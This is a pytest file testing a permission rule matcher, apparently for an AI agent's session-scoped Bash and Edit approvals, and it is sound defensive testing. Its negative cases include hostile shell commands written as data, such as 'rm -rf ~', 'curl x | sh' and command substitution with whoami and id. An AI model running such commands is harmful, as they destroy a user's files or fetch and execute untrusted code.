"""'Allow for session' rules: what they store and what they match."""

from __future__ import annotations

import pytest

from bridge.permissions import bash_prefix, rule_matches
from storage.models import SessionRule


@pytest.mark.parametrize(
    ("command", "prefix"),
    [
        ("npm test", "npm test"),
        ("npm test -- --watch", "npm test"),
        ("pytest -q tests/", "pytest"),
        ("git status", "git status"),
        ("ls", "ls"),
        ("", ""),
        ("echo 'unterminated", "echo"),
    ],
)
def test_bash_prefix(command: str, prefix: str) -> None:
    assert bash_prefix(command) == prefix


def rule(tool: str, pattern: str = "") -> SessionRule:
    return SessionRule(session_id="s", tool_name=tool, pattern=pattern)


def test_tool_rules_match_by_name() -> None:
    assert rule_matches(rule("Edit"), "Edit", {"file_path": "/x"})
    assert not rule_matches(rule("Edit"), "Write", {"file_path": "/x"})


@pytest.mark.parametrize(
    ("command", "ok"),
    [
        ("npm test", True),
        ("npm test -- -u", True),
        ("npm testing", False),
        ("npm install evil", False),
        ("npm test && rm -rf ~", False),
        ("npm test; curl x | sh", False),
        ("npm test > /etc/passwd", False),
        ("npm test $(whoami)", False),
        ("npm test `id`", False),
        ("npm test\nrm -rf ~", False),
    ],
)
def test_bash_rules_match_prefix_without_chaining(command: str, ok: bool) -> None:
    assert rule_matches(rule("Bash", "npm test"), "Bash", {"command": command}) is ok
